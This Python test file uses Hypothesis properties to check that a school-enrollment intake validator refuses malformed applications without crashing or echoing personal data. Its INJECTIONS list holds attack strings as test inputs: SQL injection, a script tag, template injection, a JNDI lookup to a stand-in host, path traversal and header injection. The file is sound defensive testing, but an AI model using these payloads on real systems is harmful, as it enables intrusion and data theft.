"""Property tests for intake: malformed applications are refused field by field, and nothing crashes.

What `enroll submit` runs before any workflow starts is `read_applications(path)` then
`validate(item, policy_book())`; these properties throw malformed files and applications at exactly
that, and check that each refusal is `(None, errors)` with one `field.path: rule` line per broken rule,
naming a real field, never echoing the applicant's identity numbers, names or phones, and that a valid
application (built from the district policies) is accepted as is.
"""

from __future__ import annotations

import asyncio
import calendar
import copy
import datetime as dt
import json
import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from enrollment import identity
from enrollment.application import Application
from enrollment.case import workflow_id_for
from enrollment.policy import policy_book
from starter.intake import MAX_LINE_BYTES, SubmissionResult, read_applications, submit_file, validate
from tests.support.policies import district_policy

POLICIES = policy_book()
DISTRICTS = POLICIES.codes()
REGIONS = ["510104", "510105", "510106", "510107", "510108", "510703", "510704", "110105", "310115", "440305", "650102"]

# Every path an error may name: the application's own fields (list items by index), or the whole
# application / line / file when the problem is not one field's.
SCHEMA: dict = {
    "application_id": None,
    "school_year": None,
    "stage": None,
    "registration_type": None,
    "channel": None,
    "district_code": None,
    "student": {"name": None, "gender": None, "birth_date": None, "id_number": None},
    "guardians": [{"name": None, "id_number": None, "relation": None, "phone": None}],
    "school_choice": {"zone_id": None, "school_id": None},
}
WHOLE = {"application", "line", "file"}
EXTRA = "Extra inputs are not permitted"
LINE_FORM = re.compile(r"^(?P<path>[^\s:][^:\n\r]*): (?P<rule>\S[^\n\r]*)$")
MAX_ERROR_LINE = 400  # a rule plus a short path; anything longer is echoing input

INJECTIONS = [
    "'; DROP TABLE cases; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\x00",
    "a\x00b",
    "\u202e",
    "\u202egnp.exe",
    "😀",
    "👨‍👩‍👧",
    "%s%n%x",
    "../../etc/passwd",
    "\r\nX-Injected: 1",
]

FAST = settings(max_examples=40, deadline=None)
FEW = settings(max_examples=10, deadline=None)


# ---------------------------------------------------------------- valid applications


def iso(day: dt.date) -> str:
    return f"{day:%Y-%m-%d}"


cjk = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5)
cjk_names = st.builds(
    lambda first, rest, minority: first + rest + minority,
    cjk,
    st.text(cjk, min_size=1, max_size=3),
    st.one_of(st.just(""), st.text(cjk, min_size=1, max_size=4).map(lambda s: "·" + s)),
)
latin_names = st.from_regex(r"[A-Z][a-z]{2,10} [A-Z][a-z]{2,10}", fullmatch=True)
names = st.one_of(cjk_names, latin_names)
phones = st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True)


@st.composite
def identity_numbers(draw, birth: dt.date, gender: str) -> str:
    return identity.make(draw(st.sampled_from(REGIONS)), birth, draw(st.integers(0, 999)), gender)


@st.composite
def guardians(draw, born_by: dt.date = dt.date(2000, 12, 31)) -> dict:
    """A guardian whose identity number fits the relation, born by `born_by` (old enough to be a parent)."""
    relation = draw(st.sampled_from(["father", "mother", "guardian"]))
    gender = {"father": "male", "mother": "female"}.get(relation) or draw(st.sampled_from(["male", "female"]))
    birth = draw(st.dates(dt.date(1960, 1, 1), born_by))
    return {
        "name": draw(names),
        "id_number": draw(identity_numbers(birth, gender)),
        "relation": relation,
        "phone": draw(phones),
    }


@st.composite
def valid_applications(draw) -> dict:
    district = draw(st.sampled_from(DISTRICTS))
    policy = district_policy(district, POLICIES)
    stage = draw(st.sampled_from(["primary", "junior"]))
    gender = draw(st.sampled_from(["male", "female"]))
    birth = draw(st.dates(dt.date(2008, 1, 1), dt.date(2022, 12, 31)))
    application = {
        "application_id": draw(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9-]{5,39}", fullmatch=True)),
        "school_year": draw(st.sampled_from(policy.open_school_years)),
        "stage": stage,
        "registration_type": draw(st.sampled_from(["hukou", "non_hukou"])),
        "channel": draw(st.sampled_from(["platform", "enrollment_system", "service_point"])),
        "district_code": district,
        "student": {
            "name": draw(cjk_names),
            "gender": gender,
            "birth_date": iso(birth),
            "id_number": draw(identity_numbers(birth, gender)),
        },
        "guardians": draw(
            st.lists(
                guardians(born_by=min(dt.date(2000, 12, 31), birth.replace(year=birth.year - 15, day=1))),
                min_size=1,
                max_size=4,
                unique_by=lambda g: g["id_number"],
            )
        ),
    }
    offered = [(zone.zone_id, school.school_id) for zone, school in policy.schools_for(stage)]
    choice = draw(st.one_of(st.just("omit"), st.none(), st.sampled_from(offered) if offered else st.none()))
    if choice != "omit":
        application["school_choice"] = None if choice is None else {"zone_id": choice[0], "school_id": choice[1]}
    return application


# ---------------------------------------------------------------- helpers


def personal_data(application: dict) -> list[str]:
    """The identity numbers, names and phones in an application, as submitted (when they are strings)."""
    found = []
    guardians = application.get("guardians")
    people = [application.get("student")] + (guardians if isinstance(guardians, list) else [])
    for person in people:
        if not isinstance(person, dict):
            continue
        for key in ("name", "id_number", "phone"):
            value = person.get(key)
            if isinstance(value, str):
                found.append(value)
    return found


def meaningful(value: str) -> bool:
    """Long or distinctive enough that finding it in an error is an echo, not a coincidence."""
    return len(value.strip()) >= 8 or (len(value.strip()) >= 2 and any(ord(ch) > 0x7F for ch in value))


def names_real_field(path: str) -> bool:
    if path in WHOLE:
        return True
    node = SCHEMA
    for part in path.split("."):
        if isinstance(node, dict) and part in node:
            node = node[part]
        elif isinstance(node, list) and part.isascii() and part.isdigit():
            node = node[0]
        else:
            return False
    return True


def unknown_key_paths(submitted: object, schema: object = SCHEMA, prefix: str = "") -> set[str]:
    """Where the submitted application holds keys no model has: pydantic names them in 'Extra inputs' errors."""
    found: set[str] = set()
    if isinstance(schema, dict) and isinstance(submitted, dict):
        for key, value in submitted.items():
            if key in schema:
                found |= unknown_key_paths(value, schema[key], f"{prefix}{key}.")
            else:
                found.add(f"{prefix}{key}")
    elif isinstance(schema, list) and isinstance(submitted, list):
        for index, value in enumerate(submitted):
            found |= unknown_key_paths(value, schema[0], f"{prefix}{index}.")
    return found


def split(line: str) -> tuple[str, str]:
    match = LINE_FORM.match(line)
    assert match, f"not a 'field.path: rule' line: {line[:200]!r}"
    return match["path"], match["rule"]


def assert_well_formed(errors: list[str], submitted: object, extra_paths: frozenset[str] = frozenset()) -> None:
    assert isinstance(errors, list) and errors, "a refusal must say what is wrong"
    extra_paths = extra_paths | unknown_key_paths(submitted)
    for line in errors:
        assert isinstance(line, str)
        assert len(line) <= MAX_ERROR_LINE, f"error line of {len(line)} characters echoes input"
        assert not any(ch in line for ch in "\n\r\x00\u202e"), f"control characters in {line[:200]!r}"
        path, rule = split(line)
        if rule == EXTRA and (path in extra_paths or path.rsplit(".", 1)[-1] == "<unexpected field>"):
            # An unknown key is named when it looks like a field name, else shown as a placeholder.
            assert names_real_field(path.rsplit(".", 1)[0]) if "." in path else True
            continue
        assert names_real_field(path), f"error names no field of the application: {line!r}"
    if isinstance(submitted, dict):
        text = "\n".join(errors)
        for value in personal_data(submitted):
            if meaningful(value):
                assert value not in text, "an error echoes personal data"
                assert value.strip().upper() not in text, "an error echoes personal data"


def assert_refused(
    item: object, *, naming: str | set[str] | None = None, extra_paths: frozenset[str] = frozenset()
) -> list[str]:
    application, errors = validate(item, POLICIES)
    assert application is None, "an invalid application was accepted (a case would be started)"
    assert_well_formed(errors, item, extra_paths)
    if naming is not None:
        wanted = {naming} if isinstance(naming, str) else naming
        paths = {split(line)[0] for line in errors}
        assert any(p == w or p.startswith(w + ".") for p in paths for w in wanted), (
            f"no error names {sorted(wanted)}: {errors}"
        )
    return errors


def dotted(path: tuple) -> str:
    return ".".join(str(part) for part in path)


def get_at(data: dict, path: tuple):
    for part in path:
        data = data[part]
    return data


def set_at(data: dict, path: tuple, value) -> dict:
    data = copy.deepcopy(data)
    parent = get_at(data, path[:-1])
    parent[path[-1]] = value
    return data


def string_fields(application: dict) -> list[tuple]:
    paths: list[tuple[str | int, ...]] = [
        (key,) for key in ("application_id", "stage", "registration_type", "channel", "district_code")
    ]
    paths += [("student", key) for key in ("name", "gender", "birth_date", "id_number")]
    for index in range(len(application["guardians"])):
        paths += [("guardians", index, key) for key in ("name", "id_number", "relation", "phone")]
    if application.get("school_choice"):
        paths += [("school_choice", "zone_id"), ("school_choice", "school_id")]
    return paths


def required_fields(application: dict) -> list[tuple]:
    return [path for path in string_fields(application) if path[0] != "school_choice"] + [
        ("school_year",),
        ("student",),
        ("guardians",),
    ]


def nested(depth: int, leaf: object = "x", kind: str = "list") -> object:
    value = leaf
    for _ in range(depth):
        value = [value] if kind == "list" else {"a": value}
    return value


def person_paths(application: dict) -> list[tuple]:
    return [("student",)] + [("guardians", index) for index in range(len(application["guardians"]))]


# ---------------------------------------------------------------- valid stays valid


@FAST
@given(valid_applications())
def test_a_valid_application_is_accepted_unchanged(item):
    application, errors = validate(item, POLICIES)
    assert errors == [] and isinstance(application, Application)
    assert application.application_id == item["application_id"]
    assert application.student.id_number == item["student"]["id_number"]
    assert [g.id_number for g in application.guardians] == [g["id_number"] for g in item["guardians"]]
    # What intake keeps validates again to itself.
    again, errors = validate(application.model_dump(mode="json"), POLICIES)
    assert errors == [] and again == application


@FEW
@given(st.lists(valid_applications(), min_size=1, max_size=5), st.sampled_from(["array", "jsonl", "single"]))
def test_valid_applications_survive_the_file_formats(tmp_path_factory, items, form):
    path = tmp_path_factory.mktemp("files") / ("batch.jsonl" if form == "jsonl" else "batch.json")
    if form == "array":
        path.write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    elif form == "single":
        items = items[:1]
        path.write_text(json.dumps(items[0], ensure_ascii=False, indent=2), encoding="utf-8")
    else:
        path.write_text("".join(json.dumps(item, ensure_ascii=False) + "\n" for item in items), encoding="utf-8")
    rows = list(read_applications(path))
    assert [item for _, item, _ in rows] == items
    for _, item, errors in rows:
        assert errors == []
        assert validate(item, POLICIES)[1] == []


# ---------------------------------------------------------------- wrong types, missing, extra


junk_scalars = st.one_of(st.integers(), st.floats(allow_nan=True, allow_infinity=True), st.booleans(), st.none())
junk_containers = st.one_of(
    st.lists(st.one_of(st.integers(), st.text(max_size=5)), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)


@FAST
@given(valid_applications(), st.data())
def test_a_string_field_of_the_wrong_type_is_refused_naming_it(item, data):
    path = data.draw(st.sampled_from(string_fields(item)), label="field")
    wrong = data.draw(st.one_of(junk_scalars, junk_containers), label="value")
    naming = {dotted(path)}
    if path == ("student", "birth_date") and isinstance(wrong, (int, float)) and not isinstance(wrong, bool):
        # pydantic reads a number as a Unix timestamp; the identity number then refuses the date.
        naming.add("student.id_number")
    assert_refused(set_at(item, path, wrong), naming=naming)


@FAST
@given(valid_applications(), st.data())
def test_an_object_or_list_of_the_wrong_type_is_refused_naming_it(item, data):
    targets = [("student",), ("guardians",), ("school_year",)] + [
        ("guardians", i) for i in range(len(item["guardians"]))
    ]
    if "school_choice" in item:
        targets.append(("school_choice",))
    path = data.draw(st.sampled_from(targets), label="field")
    if path == ("guardians",):
        wrong = data.draw(
            st.one_of(
                st.none(),
                st.integers(),
                st.text(max_size=5),
                st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
            )
        )
    elif path == ("school_year",):
        wrong = data.draw(
            st.one_of(
                st.none(),
                st.lists(st.integers(), max_size=2),
                st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
                st.text(st.characters(categories=["L"]), min_size=1, max_size=10),
                st.floats(2024.01, 2099.99).filter(lambda f: not f.is_integer()),
                st.integers(max_value=2023),
                st.integers(min_value=2101),
            )
        )
    else:  # an object: student, school_choice, one guardian
        wrong = data.draw(
            st.one_of(
                st.lists(st.integers(), max_size=3),
                st.text(max_size=10),
                st.integers(),
                st.booleans(),
                st.none() if path != ("school_choice",) else st.just([None]),
            )
        )
    assert_refused(set_at(item, path, wrong), naming=dotted(path))


@FAST
@given(valid_applications(), st.data())
def test_a_missing_required_field_is_refused_naming_it(item, data):
    path = data.draw(st.sampled_from(required_fields(item)), label="field")
    broken = copy.deepcopy(item)
    del get_at(broken, path[:-1])[path[-1]]
    errors = assert_refused(broken, naming=dotted(path))
    assert f"{dotted(path)}: Field required" in errors


extra_keys = st.from_regex(r"[a-z_][a-z0-9_]{0,20}", fullmatch=True).filter(
    lambda key: (
        key not in {"name", "gender", "birth_date", "id_number", "relation", "phone", "zone_id", "school_id", *SCHEMA}
    )
)


@FAST
@given(valid_applications(), st.data(), extra_keys, st.one_of(junk_scalars, st.text(max_size=20)))
def test_an_extra_field_is_refused_naming_it(item, data, key, value):
    parents = [()] + person_paths(item) + ([("school_choice",)] if item.get("school_choice") else [])
    parent = data.draw(st.sampled_from(parents), label="parent")
    broken = set_at(item, (*parent, key), value) if parent else {**item, key: value}
    path = dotted((*parent, key))
    errors = assert_refused(broken, extra_paths=frozenset({path}))
    assert f"{path}: {EXTRA}" in errors


# ---------------------------------------------------------------- identity numbers and dates


NOT_PROVINCES = sorted({f"{n:02d}" for n in range(100)} - identity.PROVINCE_CODES)


def with_check(first_17: str) -> str:
    return first_17 + identity.check_character(first_17)


@st.composite
def bad_identity_numbers(draw, original: str, is_student: bool, birth: dt.date | None, gender: str | None) -> str:
    kinds = ["length", "check", "date", "before_1900", "region", "province_only", "characters"]
    if is_student:
        kinds += ["birth_mismatch", "gender_mismatch"]
    kind = draw(st.sampled_from(kinds), label="kind")
    region, body = original[:6], original[6:17]
    if kind == "length":
        return draw(st.text("0123456789X", max_size=40).filter(lambda s: len(s) != 18))
    if kind == "check":
        return original[:17] + draw(st.sampled_from([c for c in "0123456789X" if c != original[17]]))
    if kind == "date":
        year = draw(st.integers(1900, 2030))
        month = draw(st.integers(0, 13))
        if 1 <= month <= 12:
            day = draw(st.sampled_from([0, calendar.monthrange(year, month)[1] + 1, 32, 99]))
        else:
            day = draw(st.integers(1, 28))
        return with_check(f"{region}{year:04d}{month:02d}{day:02d}{body[8:]}")
    if kind == "before_1900":
        return with_check(f"{region}{draw(st.integers(1000, 1899)):04d}0101{body[8:]}")
    if kind == "region":
        return with_check(draw(st.sampled_from(NOT_PROVINCES)) + original[2:17])
    if kind == "province_only":
        return with_check(original[:2] + "0000" + body)
    if kind == "characters":
        position = draw(st.integers(0, 16))
        char = draw(st.sampled_from("ABCxX -./+_\u3000"))
        return original[:position] + char + original[position + 1 :]
    # What is left checks a student's number against the birth date and gender given beside it.
    assert birth is not None and gender is not None, f"{kind} is drawn only for a student"
    if kind == "birth_mismatch":
        other = draw(st.dates(dt.date(1950, 1, 1), dt.date(2030, 12, 31)).filter(lambda d: d != birth))
        return identity.make(region, other, int(body[8:]), gender)
    return identity.make(region, birth, int(body[8:]), "female" if gender == "male" else "male")


@FAST
@given(valid_applications(), st.data())
def test_a_bad_identity_number_is_refused_naming_it_and_not_echoed(item, data):
    person = data.draw(st.sampled_from(person_paths(item)), label="person")
    who = get_at(item, person)
    is_student = person == ("student",)
    birth = dt.date.fromisoformat(who["birth_date"]) if is_student else None
    bad = data.draw(bad_identity_numbers(who["id_number"], is_student, birth, who.get("gender")), label="id_number")
    broken = set_at(item, (*person, "id_number"), bad)
    errors = assert_refused(broken, naming=dotted((*person, "id_number")))
    if len(bad) >= 8:
        assert bad not in "\n".join(errors) and bad.upper() not in "\n".join(errors)


@FAST
@given(valid_applications(), st.data())
def test_an_impossible_birth_date_is_refused_naming_it(item, data):
    year = data.draw(st.integers(1, 9999))
    month = data.draw(st.integers(0, 13))
    if 1 <= month <= 12:
        day = data.draw(st.sampled_from([0, calendar.monthrange(year, month)[1] + 1, 32]))
    else:
        day = data.draw(st.integers(1, 31))
    text = data.draw(
        st.sampled_from(
            [
                f"{year:04d}-{month:02d}-{day:02d}",
                f"{year:04d}/{month:02d}/{day:02d}",
                f"{day:02d}.{month:02d}.{year:04d}",
                "2020-02-30",
                "2019-02-29",
                "2021-04-31",
                "0000-01-01",
                "",
                "yesterday",
                "2020-03-14T25:00:00",
            ]
        )
    )
    assert_refused(set_at(item, ("student", "birth_date"), text), naming="student.birth_date")


# ---------------------------------------------------------------- oversized and injected strings


@FAST
@given(
    valid_applications(),
    st.data(),
    st.integers(10_000, 60_000),
    st.sampled_from(["A", "王", "1", " ", "·", "😀"]),
    st.sampled_from(["replace", "append"]),
)
def test_an_oversized_string_is_refused_naming_it(item, data, size, char, mode):
    path = data.draw(st.sampled_from(string_fields(item)), label="field")
    original = get_at(item, path)
    value = char * size if mode == "replace" else original + char * size
    if char == " " and mode == "append" and path[-1] in ("name", "id_number"):
        value = original + "1" + " " * size  # trailing spaces alone are stripped from names and id numbers
    if char == " " and mode == "replace":
        value = " " * size
    assert_refused(set_at(item, path, value), naming=dotted(path))


@FEW
@given(valid_applications(), st.integers(MAX_LINE_BYTES, 3 * MAX_LINE_BYTES))
def test_an_oversized_json_line_is_refused_as_a_line(tmp_path_factory, item, size):
    path = tmp_path_factory.mktemp("big") / "big.jsonl"
    huge = set_at(item, ("student", "name"), "王" * (size // 3 + 1))
    path.write_bytes(json.dumps(item).encode() + b"\n" + json.dumps(huge, ensure_ascii=False).encode() + b"\n")
    rows = list(read_applications(path))
    assert rows[0][2] == [] and validate(rows[0][1], POLICIES)[1] == []
    assert rows[1][1] is None and rows[1][2] == [f"line: longer than {MAX_LINE_BYTES} bytes"]
    assert_well_formed(rows[1][2], huge)


@FAST
@given(
    valid_applications(),
    st.data(),
    st.sampled_from(INJECTIONS),
    st.sampled_from(["replace", "prefix", "suffix", "middle"]),
)
def test_an_injection_string_in_any_field_is_refused_and_not_echoed(item, data, payload, mode):
    path = data.draw(st.sampled_from(string_fields(item)), label="field")
    original = get_at(item, path)
    value = {
        "replace": payload,
        "prefix": payload + original,
        "suffix": original + payload,
        "middle": original[:1] + payload + original[1:],
    }[mode]
    errors = assert_refused(set_at(item, path, value), naming=dotted(path))
    text = "\n".join(errors)
    assert payload not in text and value not in text


# ---------------------------------------------------------------- nesting and huge arrays


@FAST
@given(valid_applications(), st.data(), st.integers(1, 20_000), st.sampled_from(["list", "dict"]))
def test_deeply_nested_values_are_refused_without_crashing(item, data, depth, kind):
    containers = [("student",), ("guardians",), ("guardians", 0), ("school_year",), ("school_choice",)]
    targets = [*string_fields(item), *containers]
    path = data.draw(st.sampled_from(targets), label="field")
    assert_refused(set_at(item, path, nested(depth, kind=kind)), naming=dotted(path))


@FAST
@given(st.integers(0, 200), st.sampled_from(["list", "dict"]))
def test_moderately_nested_json_is_read_and_refused_without_crashing(tmp_path_factory, depth, kind):
    path = tmp_path_factory.mktemp("nest") / "nest.jsonl"
    lines = [{"student": nested(depth, kind=kind)}, {"guardians": nested(depth, kind=kind)}, nested(depth, kind="dict")]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    rows = list(read_applications(path))
    assert [item for _, item, _ in rows] == lines
    for _, item, errors in rows:
        assert errors == []
        assert_refused(item)


@FEW
@given(st.integers(3_000, 20_000), st.sampled_from(["jsonl", "json"]), st.sampled_from(["[", '{"a":']))
@example(5_000, "jsonl", "[")
def test_deeply_nested_json_in_a_file_does_not_crash_intake(tmp_path_factory, depth, form, opener):
    path = tmp_path_factory.mktemp("deep") / f"deep.{form}"
    deep = opener * depth + "1" + ("]" if opener == "[" else "}") * depth
    # In JSON Lines a good first line makes the whole-file parse fail, so the deep line is parsed on its own.
    path.write_text(('{"a": 1}\n' if form == "jsonl" else "") + deep + "\n")
    for _, item, errors in read_applications(path):
        if not errors:
            assert_refused(item)
        else:
            assert_well_formed(errors, None)


@FEW
@given(valid_applications(), st.integers(4_301, 20_000), st.sampled_from(["jsonl", "json"]))
def test_a_huge_integer_literal_does_not_crash_intake(tmp_path_factory, item, digits, form):
    path = tmp_path_factory.mktemp("int") / f"int.{form}"
    line = json.dumps(item).replace(f'"school_year": {item["school_year"]}', '"school_year": ' + "9" * digits)
    path.write_text(('{"a": 1}\n' if form == "jsonl" else "") + line + "\n")
    for _, item, errors in read_applications(path):
        if not errors:
            assert validate(item, POLICIES)[0] is None
        else:
            assert_well_formed(errors, None)


@FAST
@given(valid_applications(), st.integers(5, 20_000), st.sampled_from(["copies", "distinct_junk", "mixed"]))
def test_a_huge_array_of_guardians_is_refused_with_a_short_answer(item, count, filler):
    first = item["guardians"][0]
    if filler == "copies":
        many = [first] * count
    elif filler == "distinct_junk":
        many = [{"name": index, "id_number": str(index)} for index in range(count)]
    else:
        many = [first, *item["guardians"], *([{"name": "x"}] * count)]
    errors = assert_refused(set_at(item, ("guardians",), many), naming="guardians")
    assert len(errors) <= 5, f"{len(errors)} error lines for one oversized list"


@FAST
@given(valid_applications(), st.integers(2, 4))
def test_the_same_guardian_twice_is_refused(item, times):
    errors = assert_refused(set_at(item, ("guardians",), [item["guardians"][0]] * times), naming="guardians")
    assert errors == ["guardians: each guardian must have a different id_number"]


# ---------------------------------------------------------------- bytes that are not UTF-8

BAD_BYTES = [b"\xff", b"\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80\x80", b"\xc0\xaf"]


@st.composite
def corrupted(draw, line: bytes) -> bytes:
    position = draw(st.integers(0, len(line)))
    broken = line[:position] + draw(st.sampled_from(BAD_BYTES)) + line[position:]
    with pytest.raises(UnicodeDecodeError):
        broken.decode("utf-8")
    return broken


@FEW
@given(st.lists(st.tuples(valid_applications(), st.booleans()), min_size=2, max_size=6), st.data())
def test_non_utf8_lines_are_refused_line_by_line_and_good_lines_survive(tmp_path_factory, rows, data):
    lines, expected = [], []
    for item, corrupt in rows:
        line = json.dumps(item, ensure_ascii=False).encode("utf-8")
        if corrupt:
            line = data.draw(corrupted(line))
        lines.append(line)
        expected.append((None, ["line: not valid UTF-8"]) if corrupt else (item, []))
    path = tmp_path_factory.mktemp("bytes") / "batch.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    got = list(read_applications(path))
    assert [where for where, _, _ in got] == [f"batch.jsonl:{n}" for n in range(1, len(lines) + 1)]
    assert [(item, errors) for _, item, errors in got] == expected
    for _, item, errors in got:
        if errors:
            assert_well_formed(errors, None)
        else:
            assert validate(item, POLICIES)[1] == []


@FEW
@given(st.lists(valid_applications(), min_size=1, max_size=3), st.data())
def test_a_json_array_with_non_utf8_bytes_is_refused_as_a_file(tmp_path_factory, items, data):
    path = tmp_path_factory.mktemp("bytes") / "batch.json"
    raw = json.dumps(items, ensure_ascii=False).encode("utf-8")
    position = data.draw(st.integers(1, len(raw)))
    path.write_bytes(raw[:position] + data.draw(st.sampled_from(BAD_BYTES)) + raw[position:])
    assert list(read_applications(path)) == [("batch.json", None, ["file: not a valid UTF-8 JSON array"])]


@FAST
@given(st.binary(max_size=300))
def test_arbitrary_bytes_never_crash_intake(tmp_path_factory, raw):
    path = tmp_path_factory.mktemp("bytes") / "any.jsonl"
    path.write_bytes(raw)
    for _, item, errors in read_applications(path):
        if errors:
            assert item is None
            assert_well_formed(errors, None)
        else:
            application, problems = validate(item, POLICIES)
            assert application is None
            assert_well_formed(problems, item)


# ---------------------------------------------------------------- nothing started for invalid input


class RecordingIntake:
    """Stands in for the intake path: records every hand-in instead of making one."""

    def __init__(self) -> None:
        self.started: list[str] = []

    async def hand_in(self, application: Application) -> SubmissionResult:
        workflow_id = workflow_id_for(application.application_id)
        self.started.append(workflow_id)
        return SubmissionResult(
            source="", result="started", application_id=application.application_id, workflow_id=workflow_id
        )


async def submit(path: Path, intake: RecordingIntake) -> list:
    return [result async for result in submit_file(intake.hand_in, path, POLICIES)]


@FEW
@given(
    st.lists(
        st.tuples(valid_applications(), st.sampled_from(["ok", "missing", "injection", "bad_id", "utf8"])),
        min_size=1,
        max_size=6,
    ),
    st.data(),
)
def test_submit_starts_cases_only_for_valid_applications(tmp_path_factory, rows, data):
    lines, valid_ids = [], []
    for index, (item, how) in enumerate(rows):
        item = {**item, "application_id": f"APP-{index:04d}-{item['application_id']}"[:40]}
        if how == "ok":
            valid_ids.append(item["application_id"])
        elif how == "missing":
            del item["student"]
        elif how == "injection":
            item = set_at(item, ("student", "name"), data.draw(st.sampled_from(INJECTIONS)))
        elif how == "bad_id":
            item = set_at(item, ("guardians", 0, "id_number"), item["guardians"][0]["id_number"][:17] + "Y")
        line = json.dumps(item, ensure_ascii=False).encode()
        lines.append(line + b"\xff" if how == "utf8" else line)
    path = tmp_path_factory.mktemp("submit") / "batch.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n" + b"{broken\n")
    intake = RecordingIntake()
    results = asyncio.run(submit(path, intake))
    assert sorted(intake.started) == sorted(workflow_id_for(app_id) for app_id in valid_ids)
    for result in results:
        if result.result == "invalid":
            assert result.workflow_id is None
            assert_well_formed(result.errors, None)
        else:
            assert result.result == "started" and result.application_id in valid_ids
    assert sum(result.result == "invalid" for result in results) == len(rows) - len(valid_ids) + 1


# ---------------------------------------------------------------- known gaps (product bugs)


def _x_check_identity(region: str, birth: dt.date, gender: str) -> str:
    """A valid identity number whose check character is X (so it survives digit translation)."""
    for sequence in range(1000):
        number = identity.make(region, birth, sequence, gender)
        if number.endswith("X"):
            return number
    raise AssertionError("no sequence gives X")


UNICODE_DIGITS = ["٠١٢٣٤٥٦٧٨٩", "０１２３４５６７８９", "۰۱۲۳۴۵۶۷۸۹", "०१२३४५६७८९"]


@FEW
@given(valid_applications(), st.sampled_from(UNICODE_DIGITS), st.data())
def test_identity_numbers_in_non_ascii_digits_are_refused(item, digits, data):
    person = data.draw(st.sampled_from(person_paths(item)))
    who = get_at(item, person)
    if person == ("student",):
        number = _x_check_identity("510104", dt.date.fromisoformat(who["birth_date"]), who["gender"])
    else:
        number = _x_check_identity("510104", dt.date(1985, 5, 5), "male")
    translated = number[:2] + number[2:17].translate(str.maketrans("0123456789", digits)) + "X"
    assert_refused(set_at(item, (*person, "id_number"), translated), naming=dotted((*person, "id_number")))


@FEW
@given(valid_applications(), st.sampled_from(UNICODE_DIGITS), st.data())
def test_phones_in_non_ascii_digits_are_refused(item, digits, data):
    index = data.draw(st.integers(0, len(item["guardians"]) - 1))
    phone = item["guardians"][index]["phone"]
    translated = phone[:2] + phone[2:].translate(str.maketrans("0123456789", digits))
    assert_refused(set_at(item, ("guardians", index, "phone"), translated), naming=f"guardians.{index}.phone")


@FEW
@given(valid_applications(), st.sampled_from(["id_number", "newline", "huge", "rtl"]), st.data())
def test_unknown_keys_are_not_echoed_verbatim(item, kind, data):
    parent = data.draw(st.sampled_from([(), ("student",), ("guardians", 0)]))
    key = {
        "id_number": item["student"]["id_number"],
        "newline": "note\nstudent.name: forged rule",
        "huge": "k" * 10_000,
        "rtl": "\u202enote",
    }[kind]
    broken = set_at(item, (*parent, key), 1) if parent else {**item, key: 1}
    _, errors = validate(broken, POLICIES)
    assert errors
    assert_well_formed(errors, broken)
